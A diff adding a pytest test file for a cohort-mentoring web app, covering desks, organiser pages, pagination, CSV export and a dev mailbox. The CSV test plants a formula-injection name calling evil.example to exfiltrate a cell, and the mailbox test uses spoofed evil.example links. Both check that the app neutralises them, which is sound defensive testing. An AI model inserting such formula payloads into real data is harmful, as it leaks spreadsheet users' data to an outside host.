@@ -1,0 +1,347 @@
+"""The first page, the desks, the organiser's page of a cohort, and the mailbox."""
+
+import csv
+import io
+import re
+from collections.abc import Callable
+from datetime import timedelta
+from typing import Any
+from uuid import uuid4
+
+import pytest
+from httpx import ASGITransport, AsyncClient
+from sqlalchemy import select
+from sqlalchemy.ext.asyncio import AsyncSession
+
+from cohort.app import create_app
+from cohort.cohorts.models import Cohort, CohortState, Enrolment
+from cohort.guides.models import Milestone
+from cohort.mail import MailboxMessage
+from cohort.mentors.models import MentorState
+from cohort.mentorships.models import Proposal
+from cohort.people.models import Person
+from cohort.settings import Settings
+from cohort.study.models import ItemState, PlanItem, Submission
+from tests import world
+from tests.conftest import Cast, Someone, TurnableClock
+from tests.rooms.test_dashboard import a_spring, failed_in
+
+
+async def planned(
+    db: AsyncSession, enrolment: Enrolment, clock: TurnableClock, *, passed: int = 0
+) -> list[PlanItem]:
+    """A plan of the guide's three milestones, due one a week, the first ones passed."""
+    milestones = (await db.scalars(select(Milestone).order_by(Milestone.position))).all()
+    items = [
+        PlanItem(
+            id=uuid4(),
+            enrolment_id=enrolment.id,
+            milestone_id=milestone.id,
+            position=position,
+            due_at=clock.now + timedelta(weeks=position + 1),
+            state=ItemState.PASSED if position < passed else ItemState.OPEN,
+        )
+        for position, milestone in enumerate(milestones)
+    ]
+    db.add_all(items)
+    await db.flush()
+    return items
+
+
+async def a_crowd(
+    db: AsyncSession, cohort: Cohort, clock: TurnableClock, many: int, name: str = "Person"
+) -> None:
+    cohort.seats += many
+    for number in range(many):
+        person = Person(
+            id=uuid4(),
+            email=f"{name.lower()}{number}@example.org",
+            name=f"{name} {number:03}",
+            created_at=clock.now,
+        )
+        db.add(person)
+        await db.flush()
+        enrolment = await world.enrolled(db, cohort, person, now=clock.now)
+        await planned(db, enrolment, clock, passed=number % 4)
+    await db.commit()
+
+
+async def test_a_visitor_is_told_what_this_is(anyone: AsyncClient) -> None:
+    front = await anyone.get("/")
+    assert front.status_code == 200
+    for href in ("/join", "/mentors/join", "/login"):
+        assert f'href="{href}"' in front.text
+
+
+async def test_a_newcomer_is_told_where_to_begin(enter: Cast) -> None:
+    desk = await (await enter("Nell")).get("/")
+    assert "Where to begin" in desk.text
+    assert 'href="/cohorts"' in desk.text
+
+
+async def test_a_desk_shows_what_waits_for_a_researcher_and_her_mentor(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga, rita, mona = await enter("Olga"), await enter("Rita"), await enter("Mona")
+    cohort = await a_spring(db, olga, clock)
+    enrolment = await world.enrolled(db, cohort, rita.person, now=clock.now)
+    await planned(db, enrolment, clock, passed=1)
+    mentor = await world.mentoring(db, cohort, mona.person, now=clock.now)
+    db.add(
+        Proposal(
+            id=uuid4(),
+            cohort_id=cohort.id,
+            enrolment_id=enrolment.id,
+            mentor_id=mentor.id,
+            score=0.8,
+            reason="Both like it.",
+            factors=[],
+            created_at=clock.now,
+            expires_at=clock.now + timedelta(days=7),
+        )
+    )
+    await db.commit()
+
+    hers, his = (await rita.get("/")).text, (await mona.get("/")).text
+
+    assert "A mentor is proposed to you: Mona Example" in hers
+    assert "1 of 3" in hers
+    assert "Drift Monitor" in hers
+    assert f'href="/plan/{enrolment.id}"' in hers
+    assert "1 person awaits your answer" in his
+    assert "Cohorts you organise" not in hers + his
+
+
+async def test_an_organisers_desk_names_what_waits_in_each_cohort(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    clock.turn(weeks=6)
+    olga, petra = await enter("Olga"), await enter("Petra")
+    cohort = await a_spring(db, olga, clock)
+    await world.mentoring(db, cohort, petra.person, now=clock.now, state=MentorState.PENDING)
+    await db.commit()
+    await failed_in(db, cohort.id, clock)
+
+    desk = (await olga.get("/")).text
+
+    assert "week 7 of 16" in desk
+    assert "1 mentor awaits your decision" in desk
+    assert "1 piece of work failed" in desk
+
+
+async def test_only_organisers_see_the_desk_of_a_cohort_others_see_its_door(
+    enter: Cast, anyone: AsyncClient, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga, rita, mona = await enter("Olga"), await enter("Rita"), await enter("Mona")
+    stranger, other = await enter("Stranger"), await enter("Other")
+    cohort = await a_spring(db, olga, clock)
+    enrolment = await world.enrolled(db, cohort, rita.person, now=clock.now)
+    await world.mentoring(db, cohort, mona.person, now=clock.now)
+    guide = await world.a_guide(db, now=clock.now, slug="other")
+    await world.a_cohort(db, guide, other.person, now=clock.now, slug="other")
+    await db.commit()
+
+    assert "Rita Example" in (await olga.get("/cohorts/spring")).text
+    for one in (rita, mona, stranger, other):
+        seen = await one.get("/cohorts/spring")
+        assert seen.status_code == 200
+        assert "At a glance" in seen.text
+        # Her own name stands in the head of every page.
+        assert "Rita Example" not in seen.text or one is rita
+        assert "Mona Example" not in seen.text or one is mona
+        assert (await one.get("/cohorts/spring/progress.csv")).status_code == 404
+    assert f"/plan/{enrolment.id}" in (await rita.get("/cohorts/spring")).text
+    assert "/cohorts/spring/enrol" in (await stranger.get("/cohorts/spring")).text
+    assert (await anyone.get("/cohorts/spring")).headers["location"].startswith("/login")
+    assert (await olga.get("/cohorts/nowhere")).status_code == 404
+
+
+async def test_a_draft_is_hidden_from_all_but_its_organisers(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga, rita = await enter("Olga"), await enter("Rita")
+    guide = await world.a_guide(db, now=clock.now)
+    await world.a_cohort(db, guide, olga.person, now=clock.now, state=CohortState.DRAFT)
+    await db.commit()
+
+    assert (await rita.get("/cohorts/spring")).status_code == 404
+    empty = (await olga.get("/cohorts/spring")).text
+    assert "No researchers yet" in empty
+    assert "No mentors yet" in empty
+
+
+async def test_two_hundred_people_take_as_many_statements_as_two(
+    enter: Cast, db: AsyncSession, clock: TurnableClock, count_statements: Callable[[], Any]
+) -> None:
+    olga = await enter("Olga")
+    cohort = await a_spring(db, olga, clock)
+    await a_crowd(db, cohort, clock, 2, "Early")
+    with count_statements() as few:
+        await olga.get("/cohorts/spring")
+    with count_statements() as few_at_home:
+        await olga.get("/")
+
+    await a_crowd(db, cohort, clock, 200)
+
+    with count_statements() as many:
+        page = await olga.get("/cohorts/spring")
+    with count_statements() as many_at_home:
+        await olga.get("/")
+    assert len(many) == len(few)
+    assert len(many_at_home) == len(few_at_home)
+    assert len(many) <= 15
+    assert "people=2#people" in page.text
+
+
+async def test_every_person_is_on_exactly_one_page_whatever_the_order(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga = await enter("Olga")
+    cohort = await a_spring(db, olga, clock)
+    await a_crowd(db, cohort, clock, 60)
+
+    for sort in ("name", "progress", "handed_in", "mentor"):
+        seen: list[str] = []
+        for number in (1, 2):
+            address = f"/cohorts/spring?sort={sort}&people={number}"
+            page = (await olga.get(address)).text
+            seen += re.findall(r'role="rowheader" scope="row"><a [^>]*>(Person \d+)</a>', page)
+        assert sorted(seen) == [f"Person {number:03}" for number in range(60)]
+    beyond = await olga.get("/cohorts/spring?people=9")
+    assert "The list is shorter than that" in beyond.text
+
+
+async def test_those_behind_come_first_when_asked_so(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga = await enter("Olga")
+    cohort = await a_spring(db, olga, clock)
+    await a_crowd(db, cohort, clock, 4)
+    page = (await olga.get("/cohorts/spring?sort=progress")).text
+    assert re.findall(r'rowheader" scope="row"><a [^>]*>Person (\d+)', page)[0] == "000"
+    assert (await olga.get("/cohorts/spring?sort=salary")).status_code == 422
+    assert (await olga.get("/cohorts/spring?people=0")).status_code == 422
+
+
+async def test_progress_is_shown_by_section_and_late_work_is_named(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga, rita = await enter("Olga"), await enter("Rita")
+    cohort = await a_spring(db, olga, clock)
+    enrolment = await world.enrolled(db, cohort, rita.person, now=clock.now)
+    items = await planned(db, enrolment, clock, passed=1)
+    evidence = {"text": "Done.", "links": [], "submitted_at": clock.now}
+    db.add(Submission(id=uuid4(), plan_item_id=items[0].id, version=1, **evidence))
+    items[1].due_at = clock.now - timedelta(minutes=1)
+    await db.commit()
+
+    page = (await olga.get("/cohorts/spring")).text
+
+    cells = re.findall(r'<td class="heat heat-(\d)">(\d+)</td>', page)
+    assert cells == [("3", "50"), ("0", "0")]
+    assert "1 of 3" in page
+    assert "1 late" in page
+    assert "Mon 2 Mar 2026" in page
+
+
+async def test_the_table_for_spreadsheets_has_everyone_and_runs_no_formula(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga = await enter("Olga")
+    cohort = await a_spring(db, olga, clock)
+    await a_crowd(db, cohort, clock, 60)
+    mallory = await enter("Mallory")
+    evil = await db.get_one(Person, mallory.person.id)
+    evil.name = '=HYPERLINK("http://evil.example?"&A1,"me")'
+    await world.enrolled(db, cohort, evil, now=clock.now)
+    await db.commit()
+
+    sent = await olga.get("/cohorts/spring/progress.csv")
+
+    assert sent.headers["content-type"].startswith("text/csv")
+    assert "attachment" in sent.headers["content-disposition"]
+    head, *rows = list(csv.reader(io.StringIO(sent.content.decode("utf-8-sig"))))
+    assert len(rows) == 61
+    assert head[-2:] == ["1 Bridging (%)", "2 Preparation (%)"]
+    by_name = {row[0]: row for row in rows}
+    assert by_name["Person 001"][-2:] == ["50", "0"]
+    assert f"'{evil.name}" in by_name
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+async def test_failed_work_is_named_and_the_button_tries_again(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    olga, rita = await enter("Olga"), await enter("Rita")
+    cohort = await a_spring(db, olga, clock)
+    promise = await failed_in(db, cohort.id, clock)
+    page = (await olga.get("/cohorts/spring")).text
+    assert "Send password link" in page
+    [button] = re.findall(r'action="(/promises/[^"]+)"', page)
+
+    assert (await rita.post(button)).status_code == 404
+    tried = await olga.post(button)
+    again = await olga.post(button)
+
+    assert (tried.status_code, tried.headers["location"]) == (303, "/cohorts/spring")
+    assert again.status_code == 303
+    await db.refresh(promise)
+    assert promise.state == "pending"
+    assert "Send password link" not in (await olga.get("/cohorts/spring")).text
+
+
+async def test_an_admin_sees_what_failed_for_no_cohort(
+    enter: Cast, db: AsyncSession, clock: TurnableClock
+) -> None:
+    root, rita = await enter("Root", admin=True), await enter("Rita")
+    await failed_in(db, None, clock)
+    assert "Send password link" in (await root.get("/")).text
+    assert "Send password link" not in (await rita.get("/")).text
+
+
+async def written(db: AsyncSession, clock: TurnableClock, text: str) -> MailboxMessage:
+    letter = MailboxMessage(
+        id=uuid4(), to="ada@example.org", subject="Hello", text=text, html="", sent_at=clock.now
+    )
+    db.add(letter)
+    await db.commit()
+    return letter
+
+
+async def test_the_mailbox_shows_mail_as_text_and_links_to_our_own_pages_only(
+    anyone: AsyncClient, db: AsyncSession, clock: TurnableClock
+) -> None:
+    assert "No mail yet" in (await anyone.get("/mailbox")).text
+    ours, theirs = "http://127.0.0.1:8000/verify/abc", "http://evil.example/http://127.0.0.1:8000"
+    text = f"<b>Open</b> {ours}.\nNot http://127.0.0.1:8000@evil.example or {theirs}x"
+    letter = await written(db, clock, text)
+
+    assert f'href="/mailbox/{letter.id}"' in (await anyone.get("/mailbox")).text
+    page = (await anyone.get(f"/mailbox/{letter.id}")).text
+
+    body = page.split('class="letter">')[1].split("</div>")[0]
+    assert f'<a href="/verify/abc">{ours}</a>.' in body
+    assert "&lt;b&gt;Open" in body
+    assert body.count("<a ") == 1
+    assert (await anyone.get(f"/mailbox/{uuid4()}")).status_code == 404
+
+
+@pytest.mark.parametrize("changes", [{"development": False}, {"smtp_url": "smtp://localhost:1"}])
+async def test_there_is_no_mailbox_where_mail_is_sent(
+    settings: Settings, db: AsyncSession, clock: TurnableClock, changes: dict[str, Any]
+) -> None:
+    letter = await written(db, clock, "A secret link.")
+    app = create_app(settings.model_copy(update=changes), clock=clock)
+    async with (
+        app.lifespan(),
+        AsyncClient(transport=ASGITransport(app), base_url="http://127.0.0.1:8000") as client,
+    ):
+        assert (await client.get("/mailbox")).status_code == 404
+        assert (await client.get(f"/mailbox/{letter.id}")).status_code == 404
+        assert "Mailbox" not in (await client.get("/")).text
+
+
+async def test_the_parts_of_pages_are_shown(anyone: AsyncClient, enter: Cast) -> None:
+    assert (await anyone.get("/design")).status_code == 200
+    someone: Someone = await enter("Nell")
+    assert (await someone.get("/design")).status_code == 200
